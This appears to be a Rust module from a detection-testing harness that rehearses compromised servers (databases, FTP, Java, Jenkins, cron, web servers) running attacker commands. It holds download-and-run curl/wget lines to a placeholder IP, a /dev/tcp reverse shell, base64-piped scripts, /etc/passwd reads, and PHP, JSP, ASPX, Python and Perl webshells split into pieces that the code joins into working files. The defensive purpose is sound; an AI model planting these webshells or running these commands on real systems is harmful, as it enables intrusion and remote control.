//! Servers that an attacker got a command or a file into. Stand-ins bear the servers' names, places and arguments; what
//! they run or write is what attackers run and write there.

use super::stage::Stage;
use super::{Act, KeyNeeds, KeyRehearsal, RehearsalError, run, serve};

const COUCHDB_KEY: &str = "proc.couchdb";
const FTP_KEY: &str = "proc.ftp";
const HADOOP_KEY: &str = "proc.hadoop";
const JAVA_KEY: &str = "proc.java";
const JENKINS_KEY: &str = "proc.jenkins";
const SCHEDULED: &str = "proc.scheduled_task";
const MYSQL_KEY: &str = "proc.mysql";
const ORACLE_KEY: &str = "proc.oracle";
const POSTGRESQL_KEY: &str = "proc.postgresql";
const PYTHON_KEY: &str = "proc.python";
const PROBE: &str = "proc.webshell_probe";
const INJECTION: &str = "proc.webshell_injection";
const WEBSHELL: &str = "webshell.file";

/// Looks around.
const RECON: &str = "id; whoami; uname -a; cat /etc/passwd";
/// Fetches and runs. Nobody is there.
const DOWNLOAD: &str = "curl -fsSL http://203.0.113.7/i.sh | sh";
/// The same by wget.
const DOWNLOAD_WGET: &str = "wget -q -T 1 -O - http://203.0.113.7/i.sh | sh";

const PHP_FPM: &[&str] = &["/usr/sbin/php-fpm8.2", "-F"];
const JAVA_PATH: &str = "/usr/lib/jvm/java-17-openjdk/bin/java";
const TOMCAT: &[&str] = &[
    JAVA_PATH,
    "-Djava.util.logging.config.file=/opt/tomcat/conf/logging.properties",
    "-classpath",
    "/opt/tomcat/bin/bootstrap.jar:/opt/tomcat/bin/tomcat-juli.jar",
    "-Dcatalina.base=/opt/tomcat",
    "org.apache.catalina.startup.Bootstrap",
    "start",
];
const SPRING: &[&str] = &[JAVA_PATH, "-Xmx512m", "-jar", "/srv/app/shop-1.4.2.jar"];
const YARN: &[&str] = &[
    JAVA_PATH,
    "-Dproc_resourcemanager",
    "-Xmx1000m",
    "-Dyarn.log.dir=/var/log/hadoop",
    "-Dhadoop.home.dir=/opt/hadoop",
    "org.apache.hadoop.yarn.server.resourcemanager.ResourceManager",
];
const DATANODE: &[&str] = &[
    JAVA_PATH,
    "-Dproc_datanode",
    "-Dhadoop.home.dir=/opt/hadoop",
    "org.apache.hadoop.hdfs.server.datanode.DataNode",
];
const JENKINS_WAR: &[&str] = &[
    JAVA_PATH,
    "-Djava.awt.headless=true",
    "-jar",
    "/usr/share/jenkins/jenkins.war",
    "--httpPort=8080",
];

pub(super) const COUCHDB: &[KeyRehearsal] = &[
    serve(
        COUCHDB_KEY,
        "couchdb-recon",
        "beam.smp runs a shell that looks around",
        &[
            "/opt/couchdb/erts-13.2/bin/beam.smp",
            "-K",
            "true",
            "-A",
            "16",
            "--",
            "-root",
            "/opt/couchdb",
        ],
        RECON,
    ),
    serve(
        COUCHDB_KEY,
        "couchdb-download",
        "couchjs runs a shell that fetches a script",
        &[
            "/opt/couchdb/bin/couchjs",
            "/opt/couchdb/share/server/main.js",
        ],
        DOWNLOAD,
    ),
];

pub(super) const FTP: &[KeyRehearsal] = &[
    serve(
        FTP_KEY,
        "ftp-vsftpd",
        "vsftpd runs a shell, as its backdoored release did",
        &["/usr/sbin/vsftpd", "/etc/vsftpd.conf"],
        RECON,
    ),
    serve(
        FTP_KEY,
        "ftp-proftpd",
        "proftpd runs a shell that fetches a script",
        &["/usr/sbin/proftpd", "--nodaemon"],
        DOWNLOAD,
    ),
    serve(
        FTP_KEY,
        "ftp-pure-ftpd",
        "pure-ftpd runs a shell that fetches a script",
        &[
            "/usr/sbin/pure-ftpd",
            "-l",
            "puredb:/etc/pure-ftpd/pureftpd.pdb",
        ],
        DOWNLOAD_WGET,
    ),
];

pub(super) const HADOOP: &[KeyRehearsal] = &[
    serve(
        HADOOP_KEY,
        "hadoop-yarn",
        "YARN's resource manager runs a shell that fetches a script",
        YARN,
        DOWNLOAD,
    ),
    serve(
        HADOOP_KEY,
        "hadoop-hdfs",
        "an HDFS data node runs a shell that looks around",
        DATANODE,
        RECON,
    ),
];

pub(super) const JAVA: &[KeyRehearsal] = &[
    serve(
        JAVA_KEY,
        "java-log4shell",
        "a Java service runs a shell that fetches a script",
        SPRING,
        DOWNLOAD,
    ),
    serve(
        JAVA_KEY,
        "java-struts",
        "a Java web server runs a shell that looks around",
        TOMCAT,
        RECON,
    ),
    serve(
        JAVA_KEY,
        "java-deserialisation",
        "a Java service runs a shell with an encoded script",
        &[JAVA_PATH, "-cp", "/opt/wls/server.jar", "weblogic.Server"],
        "echo dHJ1ZQ== | base64 -d | sh",
    ),
];

pub(super) const JENKINS: &[KeyRehearsal] = &[
    serve(
        JENKINS_KEY,
        "jenkins-download",
        "Jenkins runs a shell that fetches a script, outside any build",
        JENKINS_WAR,
        DOWNLOAD,
    ),
    serve(
        JENKINS_KEY,
        "jenkins-script-console",
        "Jenkins runs a shell that looks around, outside any build",
        JENKINS_WAR,
        RECON,
    ),
];

pub(super) const SCHEDULED_TASK: &[KeyRehearsal] = &[
    serve(
        SCHEDULED,
        "cron-download",
        "cron runs a downloader into a shell",
        &["/usr/sbin/cron", "-f"],
        DOWNLOAD,
    ),
    serve(
        SCHEDULED,
        "crond-reverse-shell",
        "crond runs a reverse shell to a port where nobody is",
        &["/usr/sbin/crond", "-n"],
        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'; true",
    ),
    serve(
        SCHEDULED,
        "atd-temporary-program",
        "atd runs a dropped program",
        &["/usr/sbin/atd", "-f"],
        "cp /payload/drifted /tmp/.job && /tmp/.job",
    ),
    serve(
        SCHEDULED,
        "systemd-timer",
        "a timer of systemd runs an encoded script",
        &["/usr/lib/systemd/systemd", "--user"],
        "echo dHJ1ZQ== | base64 -d | bash",
    ),
];

pub(super) const MYSQL: &[KeyRehearsal] = &[
    serve(
        MYSQL_KEY,
        "mysql-recon",
        "mysqld runs a shell that looks around",
        &["/usr/sbin/mysqld", "--user=mysql"],
        RECON,
    ),
    serve(
        MYSQL_KEY,
        "mysql-download",
        "mariadbd runs a shell that fetches a script",
        &["/usr/sbin/mariadbd"],
        DOWNLOAD_WGET,
    ),
    serve(
        MYSQL_KEY,
        "mysql-udf",
        "mysqld writes a library into its plugin directory",
        &["/usr/sbin/mysqld", "--user=mysql"],
        "write /usr/lib/mysql/plugin/lib_mysqludf_sys.so\n\u{7f}ELF a stand-in for a library",
    ),
];

pub(super) const ORACLE: &[KeyRehearsal] = &[
    serve(
        ORACLE_KEY,
        "oracle-recon",
        "oracle runs a shell that looks around",
        &[
            "/opt/oracle/product/19c/dbhome_1/bin/oracle",
            "oracleORCL",
            "(LOCAL=NO)",
        ],
        RECON,
    ),
    serve(
        ORACLE_KEY,
        "oracle-extproc",
        "extproc runs a shell that fetches a script",
        &[
            "/opt/oracle/product/19c/dbhome_1/bin/extproc",
            "extprocPLSExtProc",
            "(LOCAL=NO)",
        ],
        DOWNLOAD,
    ),
    serve(
        ORACLE_KEY,
        "oracle-listener",
        "the listener runs a shell that fetches a script",
        &[
            "/opt/oracle/product/19c/dbhome_1/bin/tnslsnr",
            "LISTENER",
            "-inherit",
        ],
        DOWNLOAD_WGET,
    ),
];

pub(super) const POSTGRESQL: &[KeyRehearsal] = &[
    serve(
        POSTGRESQL_KEY,
        "postgresql-recon",
        "postgres runs a program for COPY that looks around",
        &[
            "/usr/lib/postgresql/15/bin/postgres",
            "-D",
            "/var/lib/postgresql/15/main",
        ],
        RECON,
    ),
    serve(
        POSTGRESQL_KEY,
        "postgresql-encoded",
        "postgres runs a program for COPY: an encoded script",
        &[
            "/usr/lib/postgresql/15/bin/postgres",
            "-D",
            "/var/lib/postgresql/15/main",
        ],
        "echo dHJ1ZQ== | base64 -d | bash",
    ),
];

pub(super) const PYTHON: &[KeyRehearsal] = &[
    serve(
        PYTHON_KEY,
        "python-flask",
        "a Python server runs a shell that looks around",
        &[
            "/opt/app/venv/bin/python3",
            "/opt/app/server.py",
            "--port",
            "5000",
        ],
        RECON,
    ),
    serve(
        PYTHON_KEY,
        "python-gunicorn",
        "a Python server's worker runs a shell that fetches a script",
        &[
            "/opt/app/venv/bin/python3",
            "/opt/app/venv/bin/gunicorn",
            "-w",
            "2",
            "app:app",
        ],
        DOWNLOAD,
    ),
];

pub(super) const WEBSHELL_PROBE: &[KeyRehearsal] = &[
    serve(
        PROBE,
        "probe-php",
        "a PHP worker runs who-am-I commands",
        PHP_FPM,
        "whoami; id; uname -a",
    ),
    serve(
        PROBE,
        "probe-apache",
        "a web server runs network questions",
        &["/usr/sbin/apache2", "-k", "start"],
        "ifconfig; netstat -an; cat /etc/passwd",
    ),
    serve(
        PROBE,
        "probe-tomcat",
        "a Java web server runs who-am-I commands",
        TOMCAT,
        "whoami; cat /etc/passwd; ps",
    ),
];

pub(super) const WEBSHELL_INJECTION: &[KeyRehearsal] = &[
    run(
        INJECTION,
        "injection-php-upload",
        "a PHP worker writes a script into the web root",
        KeyNeeds::NOTHING,
        |stage| upload(stage, PHP_FPM, "/var/www/html/uploads/avatar.php", &PHP),
    ),
    run(
        INJECTION,
        "injection-jsp-upload",
        "a Java web server writes a script into the web root",
        KeyNeeds::NOTHING,
        |stage| upload(stage, TOMCAT, "/opt/tomcat/webapps/ROOT/help.jsp", &JSP),
    ),
    KeyRehearsal {
        key: INJECTION,
        name: "injection-agent",
        description: "an agent is attached to a Java web server's memory",
        needs: KeyNeeds::NOTHING,
        by_content: false,
        act: Act::Try(&[
            "jattach",
            "7",
            "load",
            "instrument",
            "false",
            "/tmp/agent.jar",
        ]),
    },
];

/// Halves of samples: a whole one would make this program one.
const PHP: [&str; 3] = ["<?php @ev", "al($_PO", "ST['c']); ?>\n"];
const PHP_OBFUSCATED: [&str; 4] = [
    "<?php $f='base'.'64_de'.'code'; $a=str_re",
    "place('x','','axsxsxexrxt'); @$a($f($_RE",
    "QUEST['z'])); ?",
    ">\n",
];
const JSP: [&str; 3] = [
    "<%@ page import=\"java.io.*\" %><% Process p=Runtime.get",
    "Runtime().ex",
    "ec(request.getParameter(\"cmd\")); %>\n",
];
const ASPX: [&str; 3] = [
    "<%@ Page Language=\"Jscript\"%><%ev",
    "al(Request.Item[\"c\"],\"uns",
    "afe\");%>\n",
];
const PYTHON_CGI: [&str; 3] = [
    "#!/usr/bin/env python3\nimport cgi,os\nprint('Content-Type: text/plain\\n')\nprint(os.po",
    "pen(cgi.FieldStorage().getva",
    "lue('cmd')).read())\n",
];
const PERL_CGI: [&str; 3] = [
    "#!/usr/bin/perl\nuse CGI;\nprint CGI::header(); print `",
    "$ENV{'QUERY_",
    "STRING'}`; system(CGI::param('cmd'));\n",
];

pub(super) const WEBSHELL_FILE: &[KeyRehearsal] = &[
    run(
        WEBSHELL,
        "webshell-php",
        "a PHP webshell in the web root",
        KeyNeeds::NOTHING,
        |stage| upload(stage, PHP_FPM, "/var/www/html/uploads/shell.php", &PHP),
    ),
    run(
        WEBSHELL,
        "webshell-php-obfuscated",
        "an obfuscated PHP webshell in the web root",
        KeyNeeds::NOTHING,
        |stage| {
            upload(
                stage,
                PHP_FPM,
                "/var/www/html/uploads/logo.php",
                &PHP_OBFUSCATED,
            )
        },
    ),
    run(
        WEBSHELL,
        "webshell-jsp",
        "a JSP webshell in the web root",
        KeyNeeds::NOTHING,
        |stage| upload(stage, TOMCAT, "/opt/tomcat/webapps/ROOT/cmd.jsp", &JSP),
    ),
    run(
        WEBSHELL,
        "webshell-aspx",
        "an ASPX webshell in the web root",
        KeyNeeds::NOTHING,
        |stage| {
            upload(
                stage,
                &["/usr/sbin/nginx"],
                "/var/www/html/uploads/up.aspx",
                &ASPX,
            )
        },
    ),
    run(
        WEBSHELL,
        "webshell-python",
        "a Python webshell in the web root",
        KeyNeeds::NOTHING,
        |stage| {
            upload(
                stage,
                &["/usr/sbin/apache2"],
                "/var/www/html/uploads/st.py",
                &PYTHON_CGI,
            )
        },
    ),
    run(
        WEBSHELL,
        "webshell-perl",
        "a Perl webshell in the web root",
        KeyNeeds::NOTHING,
        |stage| {
            upload(
                stage,
                &["/usr/sbin/apache2"],
                "/var/www/html/uploads/st.cgi",
                &PERL_CGI,
            )
        },
    ),
];

/// A server writes a file whose pieces come together only here.
fn upload(
    stage: &mut Stage,
    server: &[&str],
    path: &str,
    pieces: &[&str],
) -> Result<(), RehearsalError> {
    let container = stage.start(&stage.options())?;
    let input = format!("write {path}\n{}", pieces.concat());
    stage.act(&container, server, &input)
}
